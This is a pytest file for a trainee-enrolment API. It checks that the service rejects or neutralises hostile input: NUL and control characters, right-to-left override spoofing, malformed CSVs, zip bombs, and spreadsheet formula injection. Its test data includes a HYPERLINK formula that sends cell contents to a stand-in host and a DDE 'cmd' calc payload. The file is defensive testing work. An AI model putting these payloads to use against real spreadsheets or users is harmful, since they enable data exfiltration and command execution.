"""Inputs that used to crash or mislead: integers past the database's types, NUL and other
control characters, names with direction overrides, dates near year 1, CSV files with a bare
carriage return or no recognisable delimiter, broken workbooks and zip bombs, and cells a
spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
import random
import zipfile
from datetime import date
from typing import Any

import httpx
import pytest
from sqlalchemy import update

from wps_common.db import Database
from wps_common.errors import PROBLEM_JSON
from wps_common.fields import from_spreadsheet, spreadsheet_safe
from wps_enrolment.import_files import XLSX
from wps_enrolment.imports import parse
from wps_enrolment.models import Trainee

from .conftest import ADMIN, Academy

RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE: "Ana \u202eavorteP" displays as "Ana Petrova"
CSV_HEADER = "employee_number,family_name,given_name,rank,unit,agency\n"


def assert_invalid(response: httpx.Response, field: str, *words: str) -> dict[str, Any]:
    """A 422 problem that names the field (and says why, in `words`)."""
    assert response.status_code == 422, response.text
    assert response.headers["content-type"].startswith(PROBLEM_JSON)
    problem: dict[str, Any] = response.json()
    assert field in [error["field"] for error in problem.get("errors", [])], problem
    for word in words:
        assert word in problem["detail"], problem["detail"]
    return problem


class TestIntegersAndDates:
    @pytest.mark.parametrize(
        "query",
        [
            "offset=9223372036854775808",  # 2**63: SQLite could not bind it (500)
            "offset=18446744073709551616",
            "offset=1000001",
            "offset=-1",
            "limit=501",
        ],
    )
    async def test_paging_is_bounded_on_every_list(self, academy: Academy, query: str) -> None:
        cohort = await academy.cohort()
        trainee = await academy.trainee()
        field = query.split("=")[0]
        for path in (
            "/v1/academies",
            "/v1/trainees",
            f"/v1/trainees/{trainee['id']}/enrolments",
            "/v1/cohorts",
            f"/v1/cohorts/{cohort['id']}/enrolments",
            "/v1/compliance",
        ):
            response = await academy.client.get(f"{path}?{query}", headers=academy.staff)
            assert_invalid(response, field)

    async def test_dates_are_in_a_sensible_range(self, academy: Academy) -> None:
        for start in ("0001-01-01", "9999-12-31", "1899-12-31"):
            response = await academy.client.post(
                "/v1/trainees",
                json={
                    "academy_id": academy.academy_id,
                    "employee_number": "E-1",
                    "given_name": "Ana",
                    "family_name": "Petrova",
                    "start_date": start,
                },
                headers=academy.staff,
            )
            assert_invalid(response, "start_date", "between 1900-01-01 and 2199-12-31")
        for query in ("from=0001-01-01", "to=9999-12-31"):
            response = await academy.client.get(
                f"/v1/reports/participation?{query}", headers=academy.staff
            )
            assert_invalid(response, query.split("=")[0])
        response = await academy.client.get(
            "/v1/cohorts?starts_to=0001-01-01", headers=academy.staff
        )
        assert_invalid(response, "starts_to")


class TestControlCharacters:
    @pytest.mark.parametrize(
        ("field", "value", "words"),
        [
            ("given_name", "Ana\x00", "NUL character (U+0000) at position 4"),
            ("family_name", "Pet\trova", "tab"),
            ("family_name", "Petrova\n", "line break"),
            ("employee_number", "E-\x001", "NUL"),
            ("rank", "Lieutenant\x1b[31m", "U+001B"),
            ("unit", "Patrol\x85", "U+0085"),
            ("agency", "\x7f", "U+007F"),
        ],
    )
    async def test_trainee_texts_refuse_them_on_create_and_update(
        self, academy: Academy, field: str, value: str, words: str
    ) -> None:
        # PostgreSQL answered NUL with a 500; SQLite stored it silently.
        body = {
            "academy_id": academy.academy_id,
            "employee_number": "E-1",
            "given_name": "Ana",
            "family_name": "Petrova",
            field: value,
        }
        created = await academy.client.post("/v1/trainees", json=body, headers=academy.staff)
        assert_invalid(created, field, words)
        trainee = await academy.trainee()
        updated = await academy.client.patch(
            f"/v1/trainees/{trainee['id']}", json={field: value}, headers=academy.staff
        )
        assert_invalid(updated, field, words)

    async def test_academy_names_refuse_them(self, academy: Academy) -> None:
        created = await academy.client.post(
            "/v1/academies",
            json={"code": "AM-YER", "name": "Yerevan\x00Academy", "country": "AM"},
            headers=ADMIN,
        )
        assert_invalid(created, "name", "NUL")
        updated = await academy.client.patch(
            f"/v1/academies/{academy.academy_id}", json={"name": "A\x00"}, headers=academy.staff
        )
        assert_invalid(updated, "name", "NUL")

    async def test_ids_in_paths_queries_and_bodies_refuse_them(self, academy: Academy) -> None:
        cohort = await academy.cohort()
        trainee = await academy.trainee()
        staff = academy.staff
        enrol = await academy.client.post(
            f"/v1/cohorts/{cohort['id']}/enrolments", json={"trainee_id": "x\x00"}, headers=staff
        )
        assert_invalid(enrol, "trainee_id", "NUL")
        bulk = await academy.client.post(
            f"/v1/cohorts/{cohort['id']}/enrolments/bulk",
            json={"trainee_ids": [trainee["id"], "x\x00"]},
            headers=staff,
        )
        assert_invalid(bulk, "trainee_ids.1", "NUL")
        for path, field in (
            ("/v1/trainees/a%00b", "trainee_id"),
            ("/v1/cohorts/a%00b", "cohort_id"),
            ("/v1/enrolments/a%00b", "enrolment_id"),
            ("/v1/academies/a%00b", "academy_id"),
            ("/v1/imports/a%00b", "job_id"),
            ("/v1/trainees?q=Ana%00", "q"),
            ("/v1/trainees?unit=%00", "unit"),
            ("/v1/trainees?academy_id=%00", "academy_id"),
            ("/v1/compliance?requirement_code=R%00", "requirement_code"),
        ):
            assert_invalid(await academy.client.get(path, headers=staff), field, "NUL")

    async def test_multi_line_texts_take_tabs_and_line_breaks_only(self, academy: Academy) -> None:
        cohort = await academy.cohort()
        trainee = await academy.trainee()
        enrolment = await academy.enrol(cohort["id"], trainee["id"])
        path = f"/v1/enrolments/{enrolment['id']}/withdraw"
        refused = await academy.client.post(
            path, json={"reason_code": "other", "note": "moved\x00away"}, headers=academy.staff
        )
        assert_invalid(refused, "note", "tabs and line breaks")
        withdrawn = await academy.client.post(
            path,
            json={"reason_code": "other", "note": "Moved away.\r\n\tNew post in Almaty."},
            headers=academy.staff,
        )
        assert withdrawn.status_code == 200, withdrawn.text
        exemption = f"/v1/trainees/{trainee['id']}/exemptions/REQ-ALL"
        refused = await academy.client.put(
            exemption, json={"reason": "on leave\x0b"}, headers=academy.staff
        )
        assert_invalid(refused, "reason", "U+000B")


class TestNames:
    @pytest.mark.parametrize(
        "control", ["\u202e", "\u202a", "\u202d", "\u2066", "\u2069", "\u200e", "\u200f", "\u061c"]
    )
    async def test_direction_controls_are_refused_with_the_reason(
        self, academy: Academy, control: str
    ) -> None:
        body = {
            "academy_id": academy.academy_id,
            "employee_number": "E-1",
            "given_name": "Ana",
            "family_name": f"{control}avorteP",
        }
        created = await academy.client.post("/v1/trainees", json=body, headers=academy.staff)
        assert_invalid(created, "family_name", "direction control", "reversed")
        number = {**body, "family_name": "Petrova", "employee_number": f"E-{control}1"}
        created = await academy.client.post("/v1/trainees", json=number, headers=academy.staff)
        assert_invalid(created, "employee_number", "direction control")
        academy_name = await academy.client.post(
            "/v1/academies",
            json={"code": "AM-YER", "name": f"Yerevan {control}ymedacA", "country": "AM"},
            headers=ADMIN,
        )
        assert_invalid(academy_name, "name", "direction control")

    async def test_right_to_left_names_without_controls_are_fine(self, academy: Academy) -> None:
        trainee = await academy.trainee(given_name="ليلى", family_name="حداد")
        assert trainee["family_name"] == "حداد"

    async def test_records_stored_before_the_rule_still_read(self, academy: Academy) -> None:
        trainee = await academy.trainee()
        db = Database(academy.database_url)
        try:
            async with db.session() as session:
                await session.execute(
                    update(Trainee)
                    .where(Trainee.id == trainee["id"])
                    .values(family_name=f"{RLO}avorteP", start_date=date(1, 1, 1))
                )
        finally:
            await db.dispose()
        read = await academy.client.get(f"/v1/trainees/{trainee['id']}", headers=academy.staff)
        assert read.status_code == 200, read.text
        assert read.json()["family_name"] == f"{RLO}avorteP"
        listed = await academy.client.get("/v1/trainees", headers=academy.staff)
        assert listed.status_code == 200, listed.text


class TestImportFiles:
    async def test_a_bare_carriage_return_ends_a_line(self, academy: Academy) -> None:
        # Used to be a 500: the header check could not read a field with a CR in it.
        job = await academy.import_csv("employee_number,family_name,given_name\rE-1,Petrova,Ana\r")
        assert (job["status"], job["created_count"], job["error_count"]) == ("succeeded", 1, 0)

    @pytest.mark.parametrize(
        ("body", "words"),
        [
            (b"employee_number\r,family_name,given_name\n", "lacks the required column"),
            # One delimiter in the header, another in the rows: none can be recognised.
            (
                b"employee_number;family_name;given_name\nE-1,Petrova,Ana\nE-2;B,C\n",
                "delimiter could not be recognised",
            ),
            (b'"employee_number' + b"x" * 140_000 + b'"\n', "header cannot be read"),
            (b"employee_number,family_name,given_name\nE-1,Pet\x00rova,Ana\n", "NUL"),
            ("employee_number\n".encode("utf-16-le"), "NUL character on line 1"),
            (b"employee_number,family_name,given_name\nE-1,\\ud800,A\n", "surrogate"),
        ],
    )
    async def test_unreadable_headers_and_nul_are_one_clear_422(
        self, academy: Academy, body: bytes, words: str
    ) -> None:
        # unicode_escape: the one charset that can decode to a lone surrogate
        charset = "unicode_escape" if b"\\u" in body else "utf-8"
        response = await academy.client.post(
            f"/v1/academies/{academy.academy_id}/imports",
            content=body,
            headers={**academy.staff, "Content-Type": f"text/csv; charset={charset}"},
        )
        assert_invalid(response, "file", words)

    async def test_a_charset_that_fails_in_its_own_way_is_a_422(self, academy: Academy) -> None:
        # idna raises UnicodeError, not UnicodeDecodeError: it was a 500.
        response = await academy.client.post(
            f"/v1/academies/{academy.academy_id}/imports",
            content=b"xn--abc-.employee_number,family_name,given_name\n",
            headers={**academy.staff, "Content-Type": "text/csv; charset=idna"},
        )
        assert_invalid(response, "file", "not idna text")

    async def test_bad_cells_are_row_errors(self, academy: Academy) -> None:
        text = CSV_HEADER + (
            "E-1,Petrova,Ana,Lieutenant,Patrol\x1b,\n"  # row 2: a control character
            f"E-2,{RLO}avorteP,Ana,,,\n"  # row 3: a direction control in a name
            '"E-3",Beridze,"Gio\rrgi",,,\n'  # rows 4-5: a CR inside a quoted cell
            "E-4,Abashidze,Eka,,,\n"
        )
        job = await academy.import_csv(text)
        assert (job["status"], job["created_count"]) == ("succeeded", 1), job
        errors = {(e["row"], e["column"]) for e in job["errors"]}
        # A row is numbered by the line it ends on; a CR ends a line as LF does.
        assert errors == {(2, "unit"), (3, "family_name"), (5, "given_name")}, job["errors"]


def _zip(*entries: tuple[str, bytes, int]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data, compression in entries:
            archive.writestr(name, data, compress_type=compression)
    return out.getvalue()


def _post_workbook(academy: Academy, body: bytes) -> Any:
    return academy.client.post(
        f"/v1/academies/{academy.academy_id}/imports",
        content=body,
        headers={**academy.staff, "Content-Type": XLSX},
    )


class TestWorkbooks:
    """A workbook that is not one, or unpacks to far more than it is, is a 422 that says so,
    before anything tries to read its sheets."""

    @pytest.mark.parametrize(
        "body",
        [
            b"PK\x03\x04" + b"\x00" * 200,  # a zip's start, then nothing of one
            b"employee_number,family_name,given_name\nE-1,Petrova,Ana\n",  # CSV named .xlsx
            _zip(("hello.txt", b"not a workbook", zipfile.ZIP_DEFLATED)),
            _zip(("[Content_Types].xml", b"<Types", zipfile.ZIP_DEFLATED)),  # cut XML
        ],
        ids=["zip-start", "csv", "other-zip", "cut-xml"],
    )
    async def test_a_broken_workbook(self, academy: Academy, body: bytes) -> None:
        assert_invalid(await _post_workbook(academy, body), "file", "cannot be read", ".xlsx")

    @pytest.mark.parametrize(
        "entries",
        [
            # 5 MB of zeros in 5 KB: a thousand times its size
            [("xl/worksheets/sheet1.xml", b"0" * 5_000_000, zipfile.ZIP_DEFLATED)],
            # 60 MB, at a ratio a real workbook might have
            [
                ("xl/media/photo.bin", random.randbytes(700_000), zipfile.ZIP_STORED),
                ("xl/worksheets/sheet1.xml", b"0" * 60_000_000, zipfile.ZIP_DEFLATED),
            ],
        ],
        ids=["ratio", "size"],
    )
    async def test_a_zip_bomb(self, academy: Academy, entries: list[Any]) -> None:
        problem = assert_invalid(
            await _post_workbook(academy, _zip(*entries)), "file", "would unpack to"
        )
        assert "refused" in problem["detail"]

    async def test_an_old_or_locked_workbook(self, academy: Academy) -> None:
        body = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 500
        response = await academy.client.post(
            f"/v1/academies/{academy.academy_id}/imports",
            files={"file": ("personnel.xls", body, "application/vnd.ms-excel")},
            headers=academy.staff,
        )
        assert_invalid(response, "file", "(.xls)", "password")


class TestSpreadsheetFormulas:
    HOSTILE = {
        "family_name": '=HYPERLINK("http://evil.example/?"&A1,"Petrova")',
        "given_name": "+Ana",
        "rank": "-2+3",
        "unit": "@SUM(A1:A9)",
        "agency": "Police = order",  # not at the start: unchanged
    }

    async def test_the_export_neutralises_formulas_and_re_imports_unchanged(
        self, academy: Academy
    ) -> None:
        await academy.trainee("=1+1", **self.HOSTILE)
        await academy.trainee("E-2", family_name="Petrova", given_name="Ana")
        exported = await academy.client.get(
            f"/v1/academies/{academy.academy_id}/trainees.csv", headers=academy.staff
        )
        assert exported.status_code == 200
        rows = {r["employee_number"]: r for r in csv.DictReader(io.StringIO(exported.text))}
        hostile = rows["'=1+1"]
        for field, value in self.HOSTILE.items():
            expected = value if field == "agency" else "'" + value
            assert hostile[field] == expected, field
        assert rows["E-2"]["family_name"] == "Petrova"
        assert not any(
            cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values()
        )

        # The exported file is the import's shape: it re-imports as an unchanged no-op.
        job = await academy.import_csv(exported.text)
        assert (job["status"], job["unchanged_count"], job["error_count"]) == ("succeeded", 2, 0)
        listed = await academy.client.get("/v1/trainees?q=1%2B1", headers=academy.staff)
        [trainee] = listed.json()["items"]
        assert trainee["employee_number"] == "=1+1"
        assert trainee["family_name"] == self.HOSTILE["family_name"]

    async def test_report_csv_neutralises_group_names(self, academy: Academy) -> None:
        cohort = await academy.cohort()
        for i in range(6):
            trainee = await academy.trainee(f"E-{i}", unit="=cmd|'/c calc'!A1")
            await academy.enrol(cohort["id"], trainee["id"])
        report = await academy.client.get(
            "/v1/reports/participation?by=unit&format=csv&from=2026-01-01&to=2026-12-31",
            headers=academy.staff,
        )
        assert report.status_code == 200, report.text
        groups = [row["group"] for row in csv.DictReader(io.StringIO(report.text))]
        assert "'=cmd|'/c calc'!A1" in groups
        assert not any(group.startswith("=") for group in groups)
        as_json = await academy.client.get(
            "/v1/reports/participation?by=unit&from=2026-01-01&to=2026-12-31",
            headers=academy.staff,
        )
        assert "=cmd|'/c calc'!A1" in [c["group"] for c in as_json.json()["cells"]]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\tA", "\rA"])
def test_every_formula_trigger_is_neutralised_and_restored(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text
    assert from_spreadsheet(spreadsheet_safe(text)) == text


def test_only_a_quote_before_a_trigger_is_dropped_on_import() -> None:
    assert from_spreadsheet("'quoted'") == "'quoted'"
    assert from_spreadsheet("O'Brien") == "O'Brien"
    assert spreadsheet_safe("O'Brien") == "O'Brien"
    assert spreadsheet_safe(7) == 7
    parsed = parse("employee_number,family_name,given_name\n'-7,O'Brien,'Ann\n")
    assert parsed.rows == [
        (2, {"employee_number": "-7", "family_name": "O'Brien", "given_name": "'Ann"})
    ]
